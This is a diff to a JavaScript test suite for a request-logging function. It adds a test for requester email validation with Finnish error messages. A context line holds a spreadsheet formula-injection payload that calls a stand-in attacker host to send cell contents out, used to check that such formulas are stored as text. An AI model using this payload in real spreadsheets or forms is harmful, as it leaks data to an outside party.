@@ -68,6 +68,16 @@ describe('logRequest', () => {
     expect(JSON.stringify(rows(em))).toBe(before);
   });
 
+  test('a requester address the register would not take is refused with what is wrong in it, and nothing is written; an ä-domain is taken as typed', () => {
+    const em = demo(20);
+    const before = JSON.stringify(rows(em));
+    expect(failure(em, 'logRequest', letter({ requesterEmail: 'jari.virtanen@' }))).toMatch(/verkkotunnus|@/);
+    expect(failure(em, 'logRequest', letter({ requesterEmail: 'jari virtanen@example.fi' }))).toMatch(/välilyönnit/);
+    expect(JSON.stringify(rows(em))).toBe(before);
+    const { request } = call<Change & { request: { requesterEmail: string } }>(em, 'logRequest', letter({ requesterEmail: 'Anna@Hyvä.fi' }));
+    expect(request.requesterEmail).toBe('anna@hyvä.fi');
+  });
+
   test('a summary that looks like a formula stays text in the Requests tab', () => {
     const em = demo(20);
     call(em, 'logRequest', letter({ summary: '=IMPORTXML("http://evil.example/?"&A1;"//a")' }));
